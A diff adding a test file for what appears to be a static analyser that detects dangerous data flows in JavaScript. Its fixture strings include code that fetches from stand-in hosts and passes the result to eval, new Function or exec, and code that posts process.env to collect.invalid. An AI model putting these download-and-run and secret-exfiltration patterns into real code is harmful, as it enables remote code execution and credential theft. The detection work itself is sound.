@@ -1,0 +1,37 @@
+import assert from 'node:assert/strict';
+import { flowsOf } from '../platform/sent.js';
+
+describe('the first look at a function that waits for a call', () => {
+  const RULES = `const rules = () => fetch('https://rules.invalid/v1').then((r) => r.json());`;
+
+  it('takes what an unfollowed call gives for anything, so that what hangs on it is seen', () => {
+    for (const body of [
+      'const src = await rules(); if (src && src.code) eval(src.code);',
+      'const src = await rules().catch(() => null); if (src !== null) new Function(src.code)();',
+      'const { code } = await rules(); if (code) cp.exec(code);',
+    ])
+      assert.equal(flowsOf(`${RULES} module.exports = async function run() { ${body} };`).length, 1, body);
+    assert.deepEqual(
+      flowsOf(`${RULES} module.exports = async () => { const src = await rules(); if (src) return src; };`),
+      [],
+    );
+  });
+
+  it('knows a cached answer for what was asked for', () => {
+    const cached = `let kept; const rules = () => (kept ??= fetch('https://rules.invalid/v1').then((r) => r.json()));`;
+    assert.deepEqual(flowsOf(`${cached} exports.run = async () => { const src = await rules(); eval(src.code); };`), [
+      'downloaded>evaluated',
+    ]);
+  });
+
+  it('sees what a function may do with what is handed in', () => {
+    const ship = `function ship(web, data) { web.request({ host: 'collect.invalid', method: 'POST' }).end(data); }`;
+    assert.deepEqual(flowsOf(`${ship} exports.go = () => ship(require('https'), JSON.stringify(process.env));`), [
+      'environment>network@collect.invalid',
+    ]);
+    const run = `const run = (programs, c) => programs.exec(c);`;
+    const code = `exports.go = async () => { const t = await (await fetch('https://load.invalid')).text(); run(require('child_process'), t); };`;
+    assert.deepEqual(flowsOf(`${run} ${code}`), ['downloaded>run-as-command']);
+    assert.deepEqual(flowsOf(`${ship} exports.go = (d) => ship(require('https'), d);`), []);
+  });
+});
